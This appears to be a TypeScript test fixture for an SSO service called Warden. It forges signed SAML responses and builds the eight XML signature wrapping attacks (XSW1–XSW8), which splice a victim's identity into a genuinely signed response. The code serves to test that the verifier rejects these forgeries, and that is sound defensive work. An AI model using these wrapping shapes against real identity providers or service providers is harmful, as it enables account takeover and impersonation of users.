import { randomUUID } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import type { KeyPair } from './certs.ts';

/**
 * Crafts SAML responses signed with a given key, as an IdP (or an attacker holding a key, or an
 * attacker re-arranging a genuinely signed response) would. Test-only: Warden never signs SAML.
 */
export interface ForgeFields {
  issuer: string;
  audience: string;
  destination?: string | undefined;
  recipient: string;
  inResponseTo?: string | undefined;
  /** Raw XML inside <NameID> (so a test can plant a comment). */
  nameIdXml: string;
  notBefore?: Date;
  notOnOrAfter?: Date;
  assertionId?: string;
}

const iso = (d: Date) => d.toISOString();

export function responseXml(f: ForgeFields): string {
  const now = new Date();
  const notBefore = f.notBefore ?? new Date(now.getTime() - 60_000);
  const notOnOrAfter = f.notOnOrAfter ?? new Date(now.getTime() + 5 * 60_000);
  const irt = f.inResponseTo ? ` InResponseTo="${f.inResponseTo}"` : '';
  const dest = f.destination ? ` Destination="${f.destination}"` : '';
  return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r${randomUUID()}" Version="2.0" IssueInstant="${iso(now)}"${dest}${irt}><saml:Issuer>${f.issuer}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="${f.assertionId ?? `_a${randomUUID()}`}" Version="2.0" IssueInstant="${iso(now)}"><saml:Issuer>${f.issuer}</saml:Issuer><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">${f.nameIdXml}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${iso(notOnOrAfter)}" Recipient="${f.recipient}"${irt}/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${iso(notBefore)}" NotOnOrAfter="${iso(notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${f.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${iso(now)}" SessionIndex="_s1"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement></saml:Assertion></samlp:Response>`;
}

function sign(xml: string, keys: KeyPair, element: 'Assertion' | 'Response'): string {
  const signer = new SignedXml({ privateKey: keys.key, publicCert: keys.cert, canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#', signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256' });
  const target = element === 'Assertion' ? "//*[local-name(.)='Assertion']" : "/*[local-name(.)='Response']";
  signer.addReference({ xpath: target, transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'], digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256' });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: `${target}/*[local-name(.)='Issuer']`, action: 'after' } });
  return signer.getSignedXml();
}

export const signAssertion = (xml: string, keys: KeyPair) => sign(xml, keys, 'Assertion');
export const signResponse = (xml: string, keys: KeyPair) => sign(xml, keys, 'Response');
export const b64 = (xml: string) => Buffer.from(xml).toString('base64');

/** The AuthnRequest id and RelayState in Warden's redirect to the IdP. */
export function authnRequestOf(location: string): { id: string; relayState: string } {
  const url = new URL(location);
  const xml = inflateRawSync(Buffer.from(url.searchParams.get('SAMLRequest')!, 'base64')).toString('utf8');
  return { id: /ID="([^"]+)"/.exec(xml)![1]!, relayState: url.searchParams.get('RelayState')! };
}

// ——— XML signature wrapping (the XSW1–XSW8 shapes of Somorovsky et al.) ———

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: unknown) => new XMLSerializer().serializeToString(node as any);
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';

function child(el: any, ns: string, local: string): any {
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.namespaceURI === ns && n.localName === local) return n;
  return null;
}

/** A copy of `assertion` claiming `victim`, with a new ID and without its signature. */
function evilAssertion(assertion: any, victim: string): any {
  const evil = assertion.cloneNode(true);
  evil.setAttribute('ID', `_evil${randomUUID()}`);
  const sig = child(evil, DS, 'Signature');
  if (sig) evil.removeChild(sig);
  const nameId = child(child(evil, SAML, 'Subject'), SAML, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(evil.ownerDocument.createTextNode(victim));
  return evil;
}

/**
 * Eight wrapping shapes built from a genuinely signed response (XSW1–2: response signature;
 * XSW3–8: assertion signature). Each keeps the valid signature while putting the victim's
 * identity where a naive verifier would read it.
 */
export function wrappingAttacks(signedResponse: string, signedAssertionResponse: string, victim: string): Record<string, string> {
  const attacks: Record<string, string> = {};

  // XSW1/XSW2: a new evil response; the original signed response moves inside the signature
  // (XSW1) or beside it, detached (XSW2).
  const responseShape = (place: (root: any, original: any) => void) => {
    const doc = parse(signedResponse);
    const original = doc.documentElement.cloneNode(true);
    const root = doc.documentElement as any;
    root.setAttribute('ID', `_evilresp${randomUUID()}`);
    const assertion = child(root, SAML, 'Assertion');
    root.replaceChild(evilAssertion(assertion, victim), assertion);
    place(root, original);
    return serialize(doc);
  };
  attacks.XSW1 = responseShape((root, original) => child(root, DS, 'Signature').appendChild(original));
  attacks.XSW2 = responseShape((root, original) => root.insertBefore(original, child(root, DS, 'Signature')));
  const shape = (build: (root: any, original: any, evil: any) => void) => {
    const doc = parse(signedAssertionResponse);
    const root = doc.documentElement as any;
    const original = child(root, SAML, 'Assertion');
    const evil = evilAssertion(original, victim);
    build(root, original, evil);
    return serialize(doc);
  };
  // XSW3: the evil assertion placed before the signed one.
  attacks.XSW3 = shape((root, original, evil) => root.insertBefore(evil, original));
  // XSW4: the signed assertion wrapped inside the evil one.
  attacks.XSW4 = shape((root, original, evil) => {
    root.replaceChild(evil, original);
    evil.appendChild(original);
  });
  // XSW5: the evil assertion carries the copied signature; the original (unsigned) goes last.
  attacks.XSW5 = shape((root, original, evil) => {
    const sig = child(original, DS, 'Signature');
    evil.insertBefore(sig.cloneNode(true), child(evil, SAML, 'Subject'));
    original.removeChild(sig);
    root.replaceChild(evil, original);
    root.appendChild(original);
  });
  // XSW6: the original assertion hidden inside the evil one's copied signature.
  attacks.XSW6 = shape((root, original, evil) => {
    const sig = child(original, DS, 'Signature').cloneNode(true);
    evil.insertBefore(sig, child(evil, SAML, 'Subject'));
    const inner = original.cloneNode(true);
    inner.removeChild(child(inner, DS, 'Signature'));
    sig.appendChild(inner);
    root.replaceChild(evil, original);
  });
  // XSW7: the signed assertion inside an Extensions element, the evil one beside it.
  attacks.XSW7 = shape((root, original, evil) => {
    const extensions = root.ownerDocument.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    root.replaceChild(evil, original);
    extensions.appendChild(original);
    root.insertBefore(extensions, evil);
  });
  // XSW8: the original (signature removed) inside an Object in the evil one's copied signature.
  attacks.XSW8 = shape((root, original, evil) => {
    const sig = child(original, DS, 'Signature').cloneNode(true);
    evil.insertBefore(sig, child(evil, SAML, 'Subject'));
    const object = root.ownerDocument.createElementNS(DS, 'ds:Object');
    const inner = original.cloneNode(true);
    inner.removeChild(child(inner, DS, 'Signature'));
    object.appendChild(inner);
    sig.appendChild(object);
    root.replaceChild(evil, original);
  });
  return attacks;
}
